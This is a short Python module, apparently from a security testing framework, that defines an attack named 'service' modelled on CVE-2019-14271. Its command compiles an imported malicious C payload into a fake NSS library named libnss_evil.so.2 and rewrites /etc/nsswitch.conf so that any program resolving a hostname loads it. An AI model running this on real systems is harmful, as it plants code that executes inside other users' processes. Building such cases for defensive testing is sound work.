"""Adds a name service to /etc/nsswitch.conf: its library is loaded by whoever looks a host's name up, such as curl.

Source: CVE-2019-14271 (docker cp loaded libnss libraries of the container).
"""

from attacks.frame import Attack
from attacks.preloads import EVIL_C

ATTACK = Attack(
    "service",
    f"cat > evil.c <<'EOF'\n{EVIL_C}\nEOF\n"
    "gcc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/libnss_evil.so.2 evil.c &&"
    " sed -i 's/^hosts:.*/hosts: evil files dns/' /etc/nsswitch.conf",
    tampers="/etc/nsswitch.conf",
)
